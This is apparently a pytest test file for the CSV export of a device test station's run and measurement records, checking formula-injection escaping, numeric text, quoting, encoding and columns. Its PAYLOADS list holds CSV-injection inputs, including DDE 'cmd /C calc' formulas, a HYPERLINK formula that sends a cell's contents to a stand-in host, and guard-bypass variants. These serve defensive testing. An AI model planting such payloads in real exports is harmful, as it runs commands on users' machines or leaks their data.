"""Records as CSV that no spreadsheet evaluates."""

import codecs
import csv
import io
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from station.domain.events import Body, RunFinished, StationStarted, StepFinished
from station.domain.outcome import Outcome
from station.domain.record import Record, records_of, stations_of
from station.report.tables import MEASUREMENTS, RUNS, measurements_csv, runs_csv, spreadsheet, text_cell
from tests.journal.shift import as_events, measured, run, unit_id, whole_run

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
    "\u2003\u00a0 =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "harmless\n=1+1",
    "harmless\r\n  @SUM(A1)",
    "harmless\u2028=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\x00=1+1",
    "\x1b=1+1",
    "\x0b=1+1",
    '"=1+1"',
    "';=1+1",
    "''=1+1",
    "\tTAB",
    "\rCR",
]
"""CWE-1236 and OWASP "CSV Injection", with the ways around a guard that looks at the first character alone."""

IGNORED = r"[\s\u00a0\u200b-\u200f\ufeff]*"
LINE_ENDS = re.compile(r"(\r\n|[\n\r\x85\u2028\u2029])")


HERE = {run(1): "line-1", run(2): "línea 2 – 线"}


def dropped(cell: str) -> str:
    """The text of a cell as a reader gets it back: one apostrophe dropped from each line."""
    return "".join(part.removeprefix("'") for part in LINE_ENDS.split(cell))


def recorded(*runs: list[Body]) -> list[Record]:
    return records_of(as_events([(run(number), bodies) for number, bodies in enumerate(runs, start=1)]))


def with_detail(text: str) -> list[Body]:
    return [*whole_run(1, Outcome.FAIL)[:-1], RunFinished(outcome=Outcome.FAIL, code="U301", detail=text)]


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_line_of_a_cell_is_a_formula(payload: str) -> None:
    (line,) = read(runs_csv(recorded(with_detail(payload)), {}))
    cell = line["detail"]
    assert not re.match(IGNORED + r"[=+\-@\uff1d\uff0b\uff0d\uff20]", cell)
    assert not re.match(r"[\t\r]", cell)
    for part in LINE_ENDS.split(cell):
        assert not re.match(IGNORED + r"[=+\-@\uff1d\uff0b\uff0d\uff20]", part)


@given(st.text(st.characters(codec="utf-8") | st.sampled_from("=+-@\t\r\n' \u00a01e.,;\"")))
def test_dropping_one_apostrophe_from_each_line_gives_the_text_back(text: str) -> None:
    shown = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f]", "\ufffd", text)
    assert dropped(text_cell(text)) == shown
    (line,) = read(runs_csv(recorded(with_detail(text)), HERE))
    assert dropped(line["detail"]) == shown


@pytest.mark.parametrize(
    "text",
    [
        "1e0027000647343138333038",
        "350030001251363131363432",
        "000000000000000000000012",
        "1234567890123456",
        "007",
        "1.10",
        "1,5",
        "1E5",
        "3/4",
        "1-2",
        "12:30",
        " 12e3 ",
        "1" * 50_000,
    ],
)
def test_digits_that_a_spreadsheet_would_change_stay_text(text: str) -> None:
    assert text_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "e00fce68aabbccddeeff0011",
        "B40HAB000000001",
        "42",
        "0",
        "123456789012345",
        "pass",
        "",
        "2026-11-23T00:00:00.000000Z",
    ],
)
def test_text_that_a_spreadsheet_keeps_is_left_as_it_is(text: str) -> None:
    assert text_cell(text) == text


@pytest.mark.parametrize(
    "text", ["1" * 200_000 + "x", "'" * 200_000, " " * 200_000 + "x", "1e" * 100_000, "=" * 200_000]
)
def test_a_long_text_takes_no_longer_than_its_length(text: str) -> None:
    begun = time.perf_counter()
    text_cell(text)
    assert time.perf_counter() - begun < 1


def test_numbers_stay_numbers_with_their_sign() -> None:
    lines = read(measurements_csv(recorded([whole_run(1)[0], measured(-2.31, "current")]), HERE))
    assert [line["value"] for line in lines] == ["-2.31"]
    assert (lines[0]["low"], lines[0]["high"], lines[0]["unit"], lines[0]["op"]) == ("3.2", "3.4", "V", "20")


def test_a_run_is_a_line_with_the_columns_that_are_told() -> None:
    text = runs_csv(recorded(whole_run(1)), HERE)
    (line,) = read(text)
    assert tuple(line) == RUNS
    assert line | {"recipe_sha256": "", "release_sha256": ""} == {
        "run": run(1),
        "outcome": "pass",
        "code": "",
        "detail": "",
        "device_id": unit_id(1),
        "serial": "B40HAB000000001",
        "nest": "1",
        "started_at": "2026-11-23T00:00:00.000000Z",
        "finished_at": "2026-11-23T00:00:00.013000Z",
        "seconds": "1.75",
        "repeated": "0",
        "recipe": "tracker",
        "revision": "3",
        "recipe_sha256": "",
        "release": "tracker-1.5.4",
        "release_sha256": "",
        "factory_test": "ft-2",
        "platform": "tracker",
        "boots": "1",
        "cloud_attempts": "0",
        "meter": "no_evidence",
        "conclusion": "no evidence of a connection",
        "profile": "offline",
        "order": "",
        "operator": "",
        "approved_by": "",
        "reference": "",
        "station": "line-1",
    }


def test_a_measured_value_is_a_line_with_the_columns_that_are_told() -> None:
    lines = read(measurements_csv(recorded(whole_run(1), whole_run(2, Outcome.FAIL)), HERE))
    assert tuple(lines[0]) == MEASUREMENTS
    assert [(line["run"], line["name"], line["value"], line["outcome"]) for line in lines] == [
        (run(1), "vcc_3v3", "3.31", "pass"),
        (run(2), "vcc_3v3", "2.9", "fail"),
    ]


def test_an_open_run_has_empty_cells_where_nothing_is_known() -> None:
    (line,) = read(runs_csv(recorded(whole_run(1)[:3]), HERE))
    assert [line[name] for name in ("outcome", "finished_at", "boots", "conclusion")] == ["", "", "", ""]


def test_lines_end_with_crlf_and_text_is_quoted_as_rfc_4180_says() -> None:
    text = runs_csv(recorded(with_detail('3.3 V, "low"\nµΩ')), HERE)
    assert text.startswith(",".join(RUNS) + "\r\n")
    assert text.endswith("\r\n")
    assert '"3.3 V, ""low""\nµΩ"' in text


def test_excel_knows_the_file_as_utf_8_by_its_mark_and_every_line_names_its_station() -> None:
    """Python's utf-8-sig drops the mark; Excel takes a file without it for the PC's old character set."""
    data = spreadsheet(runs_csv(recorded(whole_run(1), whole_run(2)), HERE))
    assert data.startswith(codecs.BOM_UTF8)
    assert [line["station"] for line in read(data.decode("utf-8-sig"))] == ["line-1", "línea 2 – 线"]
    (line, *_) = read(measurements_csv(recorded(whole_run(1)), HERE))
    assert line["station"] == "line-1"


def test_a_station_is_the_one_that_started_before_the_run() -> None:
    started = StationStarted(
        version="1", station="line-1", fixture="f", recipe="r A", recipe_sha256="a" * 64, unverified=()
    )
    other = started.model_copy(update={"station": "line-2"})
    events = as_events([(None, [started]), (run(1), whole_run(1)), (None, [other]), (run(2), whole_run(2))])
    assert stations_of(events) == {run(1): "line-1", run(2): "line-2"}
    assert stations_of(events[1:]) == {run(1): "", run(2): "line-2"}


def test_no_records_make_a_header() -> None:
    assert runs_csv([], {}) == ",".join(RUNS) + "\r\n"
    assert measurements_csv([], {}) == ",".join(MEASUREMENTS) + "\r\n"


def test_a_measurement_tells_its_attempt_and_who_measured() -> None:
    again = measured(3.3).model_copy(update={"attempt": 2, "source": "instrument:dmm (Maker,Model,SN,1.0)"})
    first, second = read(measurements_csv(recorded([whole_run(1)[0], measured(2.9), again]), HERE))
    assert (first["attempt"], first["source"], first["outcome"]) == ("1", "", "fail")
    assert (second["attempt"], second["source"], second["outcome"]) == (
        "2",
        "instrument:dmm (Maker,Model,SN,1.0)",
        "pass",
    )


def test_a_run_tells_how_many_operations_were_tried_again() -> None:
    bodies = whole_run(1)
    end = next(n for n, one in enumerate(bodies) if isinstance(one, StepFinished) and one.op == 20)
    failed = bodies[end].model_copy(update={"outcome": Outcome.FAIL})
    last = bodies[end].model_copy(update={"attempt": 2})
    (line,) = read(runs_csv(recorded([*bodies[:end], failed, last, *bodies[end + 1 :]]), HERE))
    assert (line["outcome"], line["repeated"]) == ("pass", "1")
